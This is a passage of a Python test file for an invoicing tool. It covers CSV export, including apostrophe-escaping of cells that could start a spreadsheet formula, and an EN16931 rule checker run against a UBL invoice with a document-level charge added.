    line = s_line("bk-evil", evil, "2026-W45", "-PO-1", 60, 4500)
    rows = parse_csv(render_csv(standard_invoice(lines=[line])))
    assert rows[0]["officer"] == "'" + evil
    assert rows[0]["purchase_order"] == "'-PO-1"  # text that starts with '-' is text

    credit_rows = parse_csv(render_csv(credit_note()))
    assert credit_rows[0]["document_type"] == "credit_note"
    assert credit_rows[0]["net_amount"] == "-45.00"  # a number, not mangled
    assert credit_rows[0]["minutes"] == "60"
    assert credit_rows[0]["credited_invoice"] == "BORS-2026-000001"
    assert credit_rows[0]["due_date"] == ""


def test_csv_outside_scope_has_no_rate_and_gives_the_reason() -> None:
    rows = parse_csv(render_csv(outside_scope_invoice()))
    assert [row["vat_category"] for row in rows] == ["O", "O"]
    assert [row["vat_rate_percent"] for row in rows] == ["", ""]
    assert rows[0]["vat_reason"] == OUTSIDE_SCOPE_REASON
    assert [row["net_amount"] for row in rows] == ["5.25", "30.00"]


def _with_charge(xml: bytes, *, adjust_totals: bool) -> bytes:
    """Our invoice plus a £10.00 document-level charge at 20% (as PEPPOL's examples have):
    with the totals adjusted, a valid document; without, an inconsistent one."""
    tree = etree.fromstring(xml)
    cac, cbc = NS["cac"], NS["cbc"]
    anchor = tree.find("cac:TaxTotal", NS)
    assert anchor is not None
    charge = etree.Element(f"{{{cac}}}AllowanceCharge")
    etree.SubElement(charge, f"{{{cbc}}}ChargeIndicator").text = "true"
    etree.SubElement(charge, f"{{{cbc}}}AllowanceChargeReason").text = "Travel"
    etree.SubElement(charge, f"{{{cbc}}}Amount", currencyID="GBP").text = "10.00"
    category = etree.SubElement(charge, f"{{{cac}}}TaxCategory")
    etree.SubElement(category, f"{{{cbc}}}ID").text = "S"
    etree.SubElement(category, f"{{{cbc}}}Percent").text = "20"
    etree.SubElement(etree.SubElement(category, f"{{{cac}}}TaxScheme"), f"{{{cbc}}}ID").text = "VAT"
    anchor.addprevious(charge)
    if adjust_totals:  # net 687.92 + 10.00 = 697.92; VAT 139.584 -> 139.58; gross 837.50
        for path, value in (
            ("cac:TaxTotal/cbc:TaxAmount", "139.58"),
            ("cac:TaxTotal/cac:TaxSubtotal/cbc:TaxableAmount", "697.92"),
            ("cac:TaxTotal/cac:TaxSubtotal/cbc:TaxAmount", "139.58"),
            ("cac:LegalMonetaryTotal/cbc:TaxExclusiveAmount", "697.92"),
            ("cac:LegalMonetaryTotal/cbc:TaxInclusiveAmount", "837.50"),
            ("cac:LegalMonetaryTotal/cbc:PayableAmount", "837.50"),
        ):
            node = tree.find(path, NS)
            assert node is not None
            node.text = value
        totals = tree.find("cac:LegalMonetaryTotal", NS)
        assert totals is not None
        tax_exclusive = totals.find("cbc:TaxExclusiveAmount", NS)
        assert tax_exclusive is not None
        charge_total = etree.Element(f"{{{cbc}}}ChargeTotalAmount", currencyID="GBP")
        charge_total.text = "10.00"
        tax_exclusive.addprevious(charge_total)
    return etree.tostring(tree, xml_declaration=True, encoding="UTF-8")


def test_the_checker_counts_document_charges() -> None:
    xml = render_ubl(standard_invoice())
    assert check_en16931(_with_charge(xml, adjust_totals=True)) == []
    assert {"BR-CO-12", "BR-S-08"} <= rules(check_en16931(_with_charge(xml, adjust_totals=False)))
